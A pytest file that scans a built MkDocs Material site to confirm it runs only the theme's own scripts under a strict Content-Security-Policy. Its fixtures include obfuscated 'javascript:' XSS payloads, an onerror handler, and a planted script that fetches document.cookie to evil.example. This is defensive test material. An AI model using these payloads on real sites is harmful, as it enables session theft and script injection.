"""After a build, every HTML file is scanned (no browser): the only scripts are the theme's
own, byte for byte, nothing runs from an attribute or a javascript:/data:/vbscript: URL, page
content holds no embedded documents or forms, nothing is loaded from another host, and every
page starts with a Content-Security-Policy that allows no inline script but the theme's own,
by hash. The script files themselves are the theme's shipped files: a pull request adding, say,
content/assets/javascripts/bundle.….min.js would replace Material's (MkDocs lets docs win)."""
from __future__ import annotations

import base64
import functools
import hashlib
import html
import json
import re
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import material
import pytest

from guidesite.tool_data import DATA_ID as TOOL_DATA
from mkdocs_hooks import MATERIAL_INLINE, THEME
from tests.helpers import elements
from tests.quality.sites import SITES, built_site

MATERIAL = Path(material.__file__).parent / "templates"
# Our hooks add one script to pages and redirect pages load another; Material adds its bundle
# (the hashed name changes with its version).
THEME_SCRIPTS = (re.compile(r"assets/javascripts/bundle\.[0-9a-f]{8}\.min\.js"), re.compile(r"assets/guidesite\.js"),
                 re.compile(r"assets/guidesite-search\.js"), re.compile(r"assets/guidesite-tools\.js"),
                 re.compile(r"assets/redirect\.js"))
# Every script file the theme ships, by its path in a built site (each language build has a copy):
# Material's bundle, search worker and its language files, and ours.
SHIPPED = {**{f"assets/{name}": THEME / "assets" / name for name in ("guidesite.js", "guidesite-search.js", "guidesite-tools.js", "redirect.js")},
           **{p.relative_to(MATERIAL).as_posix(): p for p in (MATERIAL / "assets" / "javascripts").rglob("*.js")}}
CSP_META = "content-security-policy"


@functools.cache
def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def not_shipped(site_root: Path, built: str) -> str | None:
    """Why the built script file at ``built`` (a path in the site) is not the theme's own, if it is not."""
    source = SHIPPED.get(re.sub(r"^cy/", "", built))
    if source is None:
        return f"{built} is not a script the theme ships"
    if not (site_root / built).is_file() or digest(site_root / built) != digest(source):
        return f"{built} differs from the theme's {source.name}"
    return None


def script_hash(body: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(body.encode("utf-8")).digest()).decode() + "'"


def directives(policy: str) -> dict[str, list[str]]:
    """A policy's directives and their sources; of a repeated directive, browsers use the first.
    A fetch directive left out falls back to default-src (base-uri and form-action do not)."""
    found = dict(reversed([[d.split()[0].lower(), d.split()[1:]] for d in policy.split(";") if d.strip()]))
    return {"script-src": found.get("default-src", ["*"]), "object-src": found.get("default-src", ["*"]), **found}


def policy_problems(policy: dict[str, list[str]]) -> list[str]:
    """What a page's Content-Security-Policy allows that it should not."""
    problems = [f"script-src allows {s}" for s in policy["script-src"] if s not in ("'self'", "'none'") and not s.startswith("'sha256-")]
    if policy["object-src"] != ["'none'"]:
        problems.append("object-src is not 'none'")
    if policy.get("base-uri") != ["'none'"]:
        problems.append("base-uri is not 'none'")
    if policy.get("form-action") not in (["'self'"], ["'none'"]):
        problems.append("form-action is not 'self'")
    return problems


def decoded_scheme(url: str) -> str:
    """The scheme a browser would see: entities decoded, control characters and whitespace
    removed (browsers ignore them inside a scheme), lower-cased."""
    text = html.unescape(html.unescape(url))
    text = re.sub(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2064\ufeff]", "", text)
    return text.split(":", 1)[0].lower() if ":" in text else ""


def scan(site_root: Path, html_file: Path, inline: list[re.Pattern], prefix: str = "/") -> list[str]:
    nodes = list(elements(html_file.read_text(encoding="utf-8")))
    # The elements inside an <article> (not the article itself): the page's content.
    in_article = {inner.mem_id for article in nodes if article.tag == "article" for inner in list(elements(article))[1:]}
    # tag, attributes, inside <article>
    tags = [(n.tag, {k.lower(): (v or "") for k, v in n.attributes.items()}, n.mem_id in in_article) for n in nodes]
    scripts = [(attrs, node.text()) for node, (tag, attrs, _) in zip(nodes, tags) if tag == "script"]
    here = prefix + html_file.relative_to(site_root).as_posix()
    problems = []
    metas = [i for i, (tag, attrs, _) in enumerate(tags) if attrs.get("http-equiv", "").lower() == CSP_META]
    policy = directives(tags[metas[0]][1].get("content", "") if metas else "")
    if not metas:
        problems.append("no Content-Security-Policy")
    else:
        if metas[0] != 3 or "charset" not in tags[2][1]:  # <html><head><meta charset><meta CSP>
            problems.append("the Content-Security-Policy does not come straight after <meta charset>")
        problems += policy_problems(policy)
    for attrs, body in scripts:
        src = attrs.get("src")
        if src:
            resolved = urlsplit(urljoin(here, src))
            built = resolved.path.removeprefix(prefix)
            # Material's scripts live in the site's own assets/ (one per language build).
            if resolved.scheme or resolved.netloc or not any(p.fullmatch(re.sub(r"^cy/", "", built)) for p in THEME_SCRIPTS):
                problems.append(f"script from {src}")
            elif why := not_shipped(site_root, built):
                problems.append(f"script from {src}: {why}")
        elif attrs.get("type") == "application/json" and attrs.get("id") in ("__config", TOOL_DATA):
            json.loads(body)  # Material's configuration, or a tool's data: never run
        elif not any(p.fullmatch(body) for p in inline):
            problems.append(f"unknown inline script: {body[:80]!r}")
        elif script_hash(body) not in policy["script-src"]:
            problems.append(f"inline script not allowed by the Content-Security-Policy: {body[:80]!r}")
    for tag, attrs, _ in tags:
        for name in attrs:
            if name.startswith("on"):
                problems.append(f"event handler attribute {name} on <{tag}>")
    for tag, attrs, in_article in tags:
        for name in ("href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "data"):
            if name in attrs and decoded_scheme(attrs[name]) in ("javascript", "data", "vbscript"):
                problems.append(f"<{tag} {name}={attrs[name][:60]!r}>")
        if in_article and tag in ("iframe", "object", "embed", "form", "frame", "frameset", "applet",
                                  "base", "meta", "input", "button", "textarea", "select", "style", "link"):
            problems.append(f"<{tag}> inside the page content")
        if tag in ("iframe", "object", "embed", "frame", "applet"):
            problems.append(f"<{tag}> on the page")
        if tag in ("link", "script", "img", "source", "video", "audio"):
            for name in ("href", "src"):
                url = attrs.get(name, "")
                if tag == "link" and attrs.get("rel", "").lower() in ("canonical", "alternate"):
                    continue  # names this page's address; nothing is loaded from it
                if url and (urlsplit(url).netloc or url.startswith("//")):
                    problems.append(f"<{tag} {name}={url!r}> loads from another host")
    return [f"{html_file.relative_to(site_root)}: {p}" for p in problems]


@pytest.mark.parametrize("name", SITES)
def test_built_html_holds_only_the_themes_scripts_and_no_active_content(name, tmp_path_factory):
    site = built_site(name, tmp_path_factory)
    files = site.html_files(redirects=True)
    problems = [p for f in files for p in scan(site.out, f, MATERIAL_INLINE, site.prefix)]
    assert len(files) > 20
    assert not problems, f"{len(problems)} problems:\n" + "\n".join(problems[:80])


@pytest.mark.parametrize("name", SITES)
def test_every_script_file_in_the_site_is_the_themes_own(name, tmp_path_factory):
    site = built_site(name, tmp_path_factory)
    files = [f.relative_to(site.out).as_posix() for f in site.out.rglob("*.js")]
    problems = [why for f in files if (why := not_shipped(site.out, f))]
    assert any(f.startswith("assets/javascripts/workers/") for f in files)
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("url, scheme", [
    ("javascript:alert(1)", "javascript"), ("JaVaScRiPt:alert(1)", "javascript"),
    ("&#106;avascript:alert(1)", "javascript"), ("&#x6A;&#x61;vascript:x", "javascript"),
    ("java&#09;script:x", "javascript"), (" \x01javascript:x", "javascript"), ("&amp;#106;avascript:x", "javascript"),
    ("DATA:text/html,x", "data"), ("vbscript:msgbox", "vbscript"), ("../theory/", ""), ("https://x/", "https"),
])
def test_scheme_detection_sees_through_casing_and_entities(url, scheme):
    assert decoded_scheme(url) == scheme


def test_the_scan_catches_what_it_is_for(tmp_path):
    page = tmp_path / "x.html"
    page.write_text('<html><head><script src="https://cdn.example/x.js"></script><script>alert(1)</script>'
                    '</head><body><article><a href="&#106;avascript:alert(1)">x</a><iframe src="/x"></iframe>'
                    '<form action="/f"></form><img src="//tracker.example/p.gif" onerror="x()"></article></body></html>')
    found = "\n".join(scan(tmp_path, page, MATERIAL_INLINE))
    for expected in ("script from https://cdn.example/x.js", "unknown inline script", "event handler attribute onerror",
                     "<a href=", "<iframe> inside the page content", "<form> inside the page content",
                     "loads from another host", "no Content-Security-Policy"):
        assert expected in found, expected


def test_the_scan_catches_a_weak_policy_and_replaced_scripts(tmp_path):
    material_script = re.findall(r"<script>(.*?)</script>", (MATERIAL / "partials/javascripts/content.html").read_text())[-1]
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets/guidesite.js").write_text("fetch('https://evil.example/?' + document.cookie)")
    page = tmp_path / "x.html"
    page.write_text('<html><head><meta charset="utf-8"><title>x</title><meta http-equiv="Content-Security-Policy" '
                    'content="default-src \'self\'; script-src \'self\' \'unsafe-inline\'; base-uri \'self\'"></head>'
                    f'<body><script>{material_script}</script><script src="assets/guidesite.js"></script></body></html>')
    found = "\n".join(scan(tmp_path, page, MATERIAL_INLINE))
    for expected in ("not come straight after <meta charset>", "script-src allows 'unsafe-inline'",
                     "object-src is not 'none'", "base-uri is not 'none'", "form-action is not 'self'",
                     "inline script not allowed by the Content-Security-Policy",
                     "assets/guidesite.js differs from the theme's guidesite.js"):
        assert expected in found, expected
    (tmp_path / "assets/javascripts").mkdir()
    (tmp_path / "assets/javascripts/extra.js").write_text("")
    assert not_shipped(tmp_path, "assets/javascripts/extra.js") == "assets/javascripts/extra.js is not a script the theme ships"
